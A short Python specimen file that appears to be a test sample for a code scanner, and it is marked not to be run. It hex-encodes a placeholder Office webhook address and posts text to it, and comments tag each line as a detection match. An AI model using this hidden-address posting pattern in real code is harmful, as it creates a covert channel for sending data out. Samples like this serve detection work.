raise SystemExit("specimen: not to be run")
import requests

def tell(text):
    where = bytes.fromhex("68747470733a2f2f73706563696d656e2e776562686f6f6b2e6f66666963652e636f6d2f776562686f6f6b62322f30303030303030302d303030302d303030302d303030302d3030303030303030303030302f496e636f6d696e67576562686f6f6b2f73706563696d656e").decode()  # match: encoded-literal
    requests.post(where, json={"text": text})  # match: workplace-webhook  # match: hidden-address
